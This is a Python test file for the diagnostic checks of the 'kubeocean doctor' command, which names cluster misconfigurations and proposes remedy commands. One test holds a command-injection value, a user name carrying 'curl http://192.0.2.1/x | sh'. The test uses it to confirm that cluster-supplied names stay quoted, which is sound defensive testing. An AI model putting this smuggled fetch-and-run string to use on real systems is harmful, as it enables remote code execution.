"""Mistakes of people, as the checks of `kubeocean doctor` see them: each is named, and its remedy is a command."""

from __future__ import annotations

import base64
import ipaddress
import shlex
import time
from collections.abc import Iterable
from datetime import timedelta
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from hypothesis import given
from hypothesis import strategies as st

from kubeocean.binding.conditions import CONNECTIVITY_FAILED, VALIDATION_FAILED, Failure
from kubeocean.doctor import bindings, nodes
from kubeocean.doctor.bindings import Commands
from kubeocean.model.crds import CLUSTERBINDINGS, POLICIES, definition
from kubeocean.rbac.permissions import worker_checks
from tests.unit.kubeocean.builders import at, binding, node, pod, policy, unknown
from tests.unit.kubeocean.explain.test_node import lease
from vkubelet.api.codec import decode_object, decode_yaml, encode_json
from vkubelet.api.objects import Key, Lease, Node
from vkubelet.clock import rfc3339
from vkubelet.commands import servers
from vkubelet.commands.findings import Finding, Level
from vkubelet.errors import Forbidden, ServerError, Unreachable

NOW = at("2026-01-05 09:00")
COMMANDS = Commands("kubectl", "kubectl --context worker")
DEMO = binding()
Body = dict[str, Any]
NETWORKS = st.sampled_from(
    ["10.1.0.0/16", "10.1.7.0/24", "10.1.8.0/24", "10.2.0.0/16", "10.0.0.0/8", "fd00::/48", "fd00::/64", "fd01::/64"]
)


def only(found: Iterable[Finding]) -> tuple[str, str, str]:
    """Level, problem and commands of the one finding."""
    (finding,) = found
    return finding.level.value, finding.problem, "\n".join(finding.commands)


# --- API servers ---


def test_an_old_version_is_named() -> None:
    assert list(servers.version("hub", {"major": "1", "minor": "30+", "gitVersion": "v1.30.1"})) == []
    level, problem, _ = only(servers.version("worker cluster", {"major": "1", "minor": "27", "gitVersion": "v1.27.4"}))
    assert level == "error" and "worker cluster" in problem and "v1.27.4" in problem and "1.30" in problem


@pytest.mark.parametrize(
    ("seconds", "expected"),
    [(0, ""), (-5, ""), (-7, "7 s behind"), (5, ""), (60, "60 s ahead of"), (-3600, "3600 s behind")],
)
def test_a_wrong_clock_is_named_beyond_what_a_slow_answer_explains(seconds: int, expected: str) -> None:
    answered = NOW + timedelta(seconds=seconds + (-1 if seconds < 0 else 0))
    found = list(servers.clock("hub", answered, sent=NOW, received=NOW))
    assert [each.level for each in found] == ([Level.WARNING] if expected else [])
    assert all(expected in each.problem for each in found)
    assert not list(servers.clock("hub", None, sent=NOW, received=NOW))
    assert not list(servers.clock("hub", NOW + timedelta(seconds=20), sent=NOW, received=NOW + timedelta(seconds=20)))


def stored(resource: Any, *, without: str = "") -> Body:
    body: Body = decode_yaml(definition(resource))
    body["status"] = {"conditions": [{"type": "Established", "status": "True"}]}
    spec = body["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"]["properties"]
    spec.pop(without, None)
    return body


@pytest.mark.parametrize("header", [None, "", "yesterday", "Mon, 05 Jan 2026 09:00:00 -0000"])
def test_a_time_that_cannot_be_read_is_not_compared(header: str | None) -> None:
    assert not list(servers.clock("hub", servers.answered(header), sent=NOW, received=NOW))
    assert servers.answered("Mon, 05 Jan 2026 09:00:00 GMT") == NOW


def checked(resource: Any, found: Body | None) -> list[Finding]:
    return list(servers.definition("hub", found, decode_yaml(definition(resource)), kubectl="kubectl", install="apply it"))


def test_a_missing_or_old_definition_is_named_with_the_command_that_installs_it() -> None:
    for resource, dropped in ((CLUSTERBINDINGS, "onUnreachable"), (POLICIES, "timeWindows")):
        assert not checked(resource, stored(resource))
        level, problem, command = only(checked(resource, None))
        assert level == "error" and f"no CustomResourceDefinition {resource.plural}.cloud.tencent.com" in problem
        assert command == "apply it"
        level, problem, _ = only(checked(resource, stored(resource, without=dropped)))
        assert level == "error" and f"of {resource.kind} is old" in problem and f"spec.{dropped}" in problem
    assert "is not established" in only(checked(POLICIES, {**stored(POLICIES), "status": {}}))[1]


# --- Bindings ---


def test_a_failed_connection_has_the_command_for_its_cause() -> None:
    gone = Failure(CONNECTIVITY_FAILED, "spec.secretRef: Secret kubeocean-system/kubeconfig does not exist")
    level, _, command = only([bindings.connection(DEMO, gone, has_secret=False, commands=COMMANDS)])
    assert level == "error" and "kubectl create secret generic kubeconfig -n kubeocean-system --from-file=kubeconfig=FILE" in command
    refused = Failure(CONNECTIVITY_FAILED, "spec.secretRef: rejects the credentials")
    assert only([bindings.connection(DEMO, refused, has_secret=True, commands=COMMANDS)])[2].startswith("kubeocean bind demo ")
    clash = Failure(VALIDATION_FAILED, "spec.clusterID: demo conflicts")
    assert only([bindings.connection(DEMO, clash, has_secret=True, commands=COMMANDS)])[2] == "kubectl edit clusterbinding demo"


@pytest.mark.parametrize(("days", "level"), [(None, ""), (8, ""), (6, "warning"), (-1, "error")])
def test_credentials_that_expire_are_named_before_and_after(days: int | None, level: str) -> None:
    expires = None if days is None else NOW + timedelta(days=days)
    found = list(bindings.credentials(DEMO, expires, now=NOW))
    assert [each.level.value for each in found] == ([level] if level else [])
    assert all(expires is not None and rfc3339(expires) in each.problem for each in found)


def test_missing_rights_are_granted_by_the_commands() -> None:
    missing = [each for each in worker_checks("mnt") if each.resource == "pods" and each.verb in ("create", "delete")]
    level, problem, commands = only(bindings.rights(DEMO, missing, user="alice", kubectl="kubectl"))
    assert level == "error" and "may not create pods in namespace mnt" in problem
    assert "kubectl create role kubeocean-demo-pods -n mnt --verb=create,delete --resource=pods" in commands
    assert "kubectl create rolebinding kubeocean-demo-pods -n mnt --role=kubeocean-demo-pods --user=alice" in commands
    ours = only(bindings.rights(DEMO, missing, user="system:serviceaccount:mnt:kubeocean-syncer", kubectl="kubectl"))
    assert ours[2] == "kubeocean bind demo --worker-context CONTEXT --mount-namespace mnt"
    optional = [each for each in worker_checks("mnt") if not each.essential][:1]
    assert only(bindings.rights(DEMO, optional, user="alice", kubectl="kubectl"))[0] == "warning"
    assert not list(bindings.rights(DEMO, [], user="alice", kubectl="kubectl"))
    hub = only(bindings.hub_rights(Key("kubeocean-system", "kubeocean-syncer-demo"), missing, kubectl="kubectl", helm="helm"))
    assert hub[0] == "error" and "ServiceAccount kubeocean-system/kubeocean-syncer-demo may not create pods" in hub[1]
    assert "--user=system:serviceaccount:kubeocean-system:kubeocean-syncer-demo" in hub[2]


def test_names_from_a_cluster_cannot_extend_a_proposed_command() -> None:
    missing = [each for each in worker_checks("mnt") if each.resource == "pods" and each.verb == "create"]
    hostile = "alice; curl http://192.0.2.1/x | sh #"
    _, _, commands = only(bindings.rights(DEMO, missing, user=hostile, kubectl="kubectl"))
    assert shlex.split(commands.splitlines()[1])[-1] == f"--user={hostile}"


def test_many_missing_rights_in_the_hub_are_granted_by_the_chart_in_the_same_cluster() -> None:
    account = Key("kubeocean-system", "kubeocean-syncer-demo")
    _, _, command = only(bindings.hub_rights(account, worker_checks("mnt"), kubectl="kubectl", helm="helm --kube-context hub"))
    assert command == "helm --kube-context hub upgrade kubeocean deploy/charts/kubeocean --reset-then-reuse-values"


def renewed(seconds: float) -> Lease:
    spec = {"renewTime": rfc3339(NOW - timedelta(seconds=seconds))}
    return decode_object(Lease, encode_json({"metadata": {"name": "vnode-demo-node-1"}, "spec": spec}))


def test_a_binding_that_no_process_serves_is_named() -> None:
    def found(*leases: Lease, **status: Any) -> list[Finding]:
        served = binding() if not status else bindings_with(status)
        return list(bindings.process(served, None, [], leases=leases, now=NOW, commands=COMMANDS))

    assert not found(renewed(5)) and not found(conditions=[{"type": "Ready", "status": "True"}])
    assert "no process serves the binding" in only(found())[1] and only(found())[2] == "kubeocean run --binding demo"
    level, problem, _ = only(found(renewed(5), renewed(120)))
    assert level == "error" and "no process renews the Leases of vnode-demo-node-1 since 2026-01-05T08:58:00Z" in problem


def bindings_with(status: Body) -> Any:
    body = {"metadata": {"name": "demo"}, "spec": {"clusterID": "demo", "mountNamespace": "mnt"}, "status": status}
    return type(DEMO).parse(unknown(body))


def test_a_process_whose_image_cannot_be_pulled_is_named() -> None:
    deployment = unknown({"metadata": {"name": "kubeocean-syncer-demo", "namespace": "kubeocean-system"}, "spec": {}, "status": {}})
    waits = {"containerStatuses": [{"name": "syncer", "state": {"waiting": {"reason": "ImagePullBackOff"}}}]}
    found = bindings.process(DEMO, deployment, [pod(name="kubeocean-syncer-demo-1", status=waits)], leases=[], now=NOW, commands=COMMANDS)
    level, problem, commands = only(found)
    assert (level, problem) == ("error", "Pod kubeocean-syncer-demo-1: ImagePullBackOff")
    assert "describe pods -l k8s-app=kubeocean-syncer-demo" in commands and "kubeocean logs demo" in commands


def test_missing_addresses_of_the_hub_are_named_unless_services_have_them() -> None:
    found = list(bindings.addresses(DEMO, [], kubectl="kubectl"))
    assert ["spec.apiServerAccess" in found[0].problem, "spec.dns" in found[1].problem] == [True, True]
    assert all(each.commands[0].startswith("kubectl patch clusterbinding demo") for each in found)
    services = [Key("default", "kubernetes-intranet"), Key("kube-system", "kube-dns-intranet")]
    assert not list(bindings.addresses(DEMO, services, kubectl="kubectl"))


def test_a_condition_is_repeated_once() -> None:
    unmet = [{"type": "Ready", "status": "False", "reason": "R", "message": "m"}, {"type": "Stalled", "status": "True", "message": "m"}]
    assert only(bindings.conditions(unmet, []))[1] == "Ready=False, R: m"
    assert not list(bindings.conditions(unmet, [Finding(Level.ERROR, "m")]))


# --- Nodes ---


def served(*addresses: str, ready: str = "True", **spec: Any) -> Node:
    status = {
        "conditions": [{"type": "Ready", "status": ready, "message": "kubelet stopped"}],
        "addresses": [{"type": "InternalIP", "address": each} for each in addresses],
        "daemonEndpoints": {"kubeletEndpoint": {"Port": 15001}},
    }
    return node(spec, status=status, name="vnode-demo-node-1")


def test_a_node_that_is_not_ready_is_named_with_its_reason() -> None:
    assert not list(nodes.ready([served()], kubectl="kubectl"))
    assert only(nodes.ready([served(ready="Unknown")], kubectl="kubectl"))[1] == "Node vnode-demo-node-1 is not Ready: kubelet stopped"


@pytest.mark.parametrize(
    ("message", "remedy"),
    [
        ("error trying to reach service: dial tcp 10.0.0.1:15001: i/o timeout", "open this port from the API server"),
        ("error trying to reach service: dial tcp 10.0.0.1:15001: connect: connection refused", "open this port from the API server"),
        ("error trying to reach service: tls: failed to verify certificate: x509: unknown authority", "certificate"),
    ],
)
def test_a_blocked_kubelet_port_and_a_wrong_certificate_are_told_apart(message: str, remedy: str) -> None:
    level, problem, commands = only(nodes.kubelet_port(served("10.0.0.1"), ServerError("get", message, status=503), kubectl="kubectl"))
    assert level == "error" and "10.0.0.1:15001" in problem and message in problem and remedy in problem
    assert "kubectl get --raw /api/v1/nodes/vnode-demo-node-1/proxy/healthz" in commands


def test_an_answer_of_the_kubelet_server_proves_that_its_port_is_reached() -> None:
    for failure in (None, Forbidden("get", "no", status=403)):
        assert not list(nodes.kubelet_port(served("10.0.0.1"), failure, kubectl="kubectl"))


def request(address: str, *, at: str = "2026-01-05T07:00:00Z", username: str = "me", **status: Any) -> Any:
    key = ec.generate_private_key(ec.SECP256R1())
    names = x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address(address))])
    made = x509.CertificateSigningRequestBuilder().subject_name(x509.Name([])).add_extension(names, critical=False)
    pem = made.sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.PEM)
    spec = {"signerName": nodes.SERVING, "request": base64.b64encode(pem).decode(), "username": username}
    return unknown({"metadata": {"name": "csr-1", "creationTimestamp": at}, "spec": spec, "status": status})


def test_a_certificate_that_waits_for_approval_is_named() -> None:
    own = [served("10.0.0.1")]
    level, problem, command = only(nodes.certificates([request("10.0.0.1")], own, kubectl="kubectl"))
    assert level == "error" and "csr-1" in problem and command == "kubectl certificate approve csr-1"
    denied = request("10.0.0.1", conditions=[{"type": "Denied", "status": "True", "message": "not yours"}])
    assert "was refused: not yours" in only(nodes.certificates([denied], own, kubectl="kubectl"))[1]
    others = [request("10.0.0.2"), request("10.0.0.1", certificate="x"), request("10.0.0.1", conditions=[{"type": "Approved"}])]
    assert not list(nodes.certificates(others, own, kubectl="kubectl"))


def test_only_the_latest_request_for_an_address_counts_and_its_author_is_named() -> None:
    own = [served("10.0.0.1")]
    denied = request("10.0.0.1", conditions=[{"type": "Denied", "status": "True"}])
    for earlier in (denied, request("10.0.0.1")):
        issued = request("10.0.0.1", at="2026-01-05T08:00:00Z", certificate="x", conditions=[{"type": "Approved"}])
        assert not list(nodes.certificates([issued, earlier], own, kubectl="kubectl"))
    again = [request("10.0.0.1", certificate="x"), request("10.0.0.1", at="2026-01-05T08:00:00Z", username="mallory")]
    assert "requested by mallory" in only(nodes.certificates(again, own, kubectl="kubectl"))[1]


def test_overlapping_pod_networks_are_named() -> None:
    here, there = node({"podCIDRs": ["10.1.0.0/16", "fd00::/64"]}, name="a"), node({"podCIDR": "10.1.7.0/24"}, name="b")
    level, problem, _ = only(nodes.networks([here], [there]))
    assert level == "warning" and "10.1.0.0/16 of Node a in the hub overlaps 10.1.7.0/24 of Node b" in problem
    assert not list(nodes.networks([here], [node({"podCIDR": "10.2.0.0/24"}), node()]))


@given(hub=st.lists(NETWORKS, max_size=4), worker=st.lists(NETWORKS, max_size=4))
def test_pod_networks_overlap_exactly_when_two_of_them_do(hub: list[str], worker: list[str]) -> None:
    pairs = [(ipaddress.ip_network(a), ipaddress.ip_network(b)) for a in hub for b in worker]
    expected = any(a.version == b.version and a.overlaps(b) for a, b in pairs)
    found = list(nodes.networks([node({"podCIDRs": hub})], [node({"podCIDR": each}) for each in worker]))
    assert bool(found) is expected


def test_pod_networks_of_thousands_of_nodes_are_compared_within_seconds() -> None:
    hub, worker = ([node({"podCIDR": f"{first}.{number // 256}.{number % 256}.0/24"}) for number in range(3000)] for first in (10, 11))
    began = time.process_time()
    assert not list(nodes.networks(hub, worker))
    assert time.process_time() - began < 5.0


def test_pods_without_a_route_from_the_hub_are_named() -> None:
    runs = pod(status={"phase": "Running", "podIP": "10.9.0.7"})
    refused = ServerError("get", "error trying to reach service: dial tcp 10.9.0.7:9: connect: connection refused", status=503)
    assert not list(nodes.routed(runs, None, binding="demo")) and not list(nodes.routed(runs, refused, binding="demo"))
    level, problem, command = only(nodes.routed(runs, Unreachable("get", "timeout after 10 s"), binding="demo"))
    assert level == "warning" and "cannot reach pod default/web at 10.9.0.7" in problem and "10.9.0.7" in command


# --- Pods and policies ---

DAEMONSET = {"apiVersion": "apps/v1", "kind": "DaemonSet", "name": "exporter", "uid": "d", "controller": True}


def test_a_daemonset_that_stalls_is_named_once_with_the_patch() -> None:
    stalled = [pod(name=f"e{each}", ownerReferences=[DAEMONSET], status={"phase": "Pending"}) for each in range(3)]
    level, problem, command = only(nodes.daemonsets(stalled, DEMO, kubectl="kubectl"))
    assert level == "error" and "DaemonSet default/exporter: 3 pods stay Pending" in problem and "rollout stops" in problem
    assert "kubectl -n default patch daemonset exporter" in command and "virtual-kubelet" in command
    assert not list(nodes.daemonsets(stalled, binding({"runningDaemonsetByDefault": True}), kubectl="kubectl"))
    assert not list(nodes.daemonsets([pod(status={"phase": "Pending"})], DEMO, kubectl="kubectl"))


@pytest.mark.parametrize(
    ("message", "remedy", "command"),
    [
        ("pods is forbidden: exceeded quota: two, requested: cpu=3", "raise the ResourceQuota", "-n mnt describe resourcequota"),
        ('pods is forbidden: violates PodSecurity "baseline:latest": privileged', "level of the mount namespace", "get namespace mnt"),
        ('admission webhook "x" denied the request: no', "webhook", "validatingwebhookconfigurations"),
    ],
)
def test_pods_that_the_worker_refuses_are_named_by_cause(message: str, remedy: str, command: str) -> None:
    waiting = {uid: pod(name=uid, uid=uid) for uid in ("a", "b")}
    events = [
        {"involvedObject": {"uid": uid}, "type": "Warning", "reason": "FailedCreatePod", "message": text, "lastTimestamp": when}
        for uid in (*waiting, "other")
        for text, when in (("an earlier cause", "2026-01-05T08:00:00Z"), (message, "2026-01-05T09:00:00Z"))
    ]
    level, problem, commands = only(nodes.refused(events, waiting, DEMO, commands=COMMANDS))
    assert level == "error" and problem.startswith(f"pods default/a, default/b wait: {message}; ") and remedy in problem
    assert commands.startswith("kubectl --context worker") and command in commands and "kubeocean explain pod default/a" in commands


def test_an_image_that_cannot_be_pulled_is_named() -> None:
    waits = {
        "containerStatuses": [{"name": "c", "image": "app:9", "state": {"waiting": {"reason": "ErrImagePull", "message": "not found"}}}]
    }
    level, problem, command = only(nodes.images([pod(status=waits), pod(status={"containerStatuses": [{"name": "c"}]})]))
    assert (level, problem) == ("warning", "pods default/web do not start: image app:9: ErrImagePull: not found")
    assert command == "kubeocean explain pod default/web"


def test_mistakes_of_policies_are_named() -> None:
    assert (
        "no ResourceLeasingPolicy of the worker names ClusterBinding demo"
        in only(bindings.policies(lease(), DEMO, instant=NOW, kubectl="kubectl"))[1]
    )
    elsewhere = {"nodeSelectorTerms": [{"matchExpressions": [{"key": "pool", "operator": "In", "values": ["b"]}]}]}
    level, problem, commands = only(
        bindings.policies(lease(policy("p", {"nodeSelector": elsewhere})), DEMO, instant=NOW, kubectl="kubectl")
    )
    assert level == "error" and problem.startswith("ResourceLeasingPolicy p: spec.nodeSelector: it selects no node")
    assert "kubectl edit resourceleasingpolicy p" in commands
    assert not list(bindings.policies(lease(policy()), DEMO, instant=NOW, kubectl="kubectl"))
    chosen = binding({"nodeSelector": elsewhere})
    found = list(bindings.policies(lease(policy()), chosen, instant=NOW, kubectl="kubectl"))
    assert "spec.nodeSelector of ClusterBinding demo selects none of the" in found[-1].problem
    strange = only(bindings.unknown_bindings([policy("p", {"cluster": "far"}), policy()], [DEMO], kubectl="kubectl"))
    assert strange[0] == "warning" and "spec.cluster names ClusterBinding far; this hub does not have it, only demo" in strange[1]
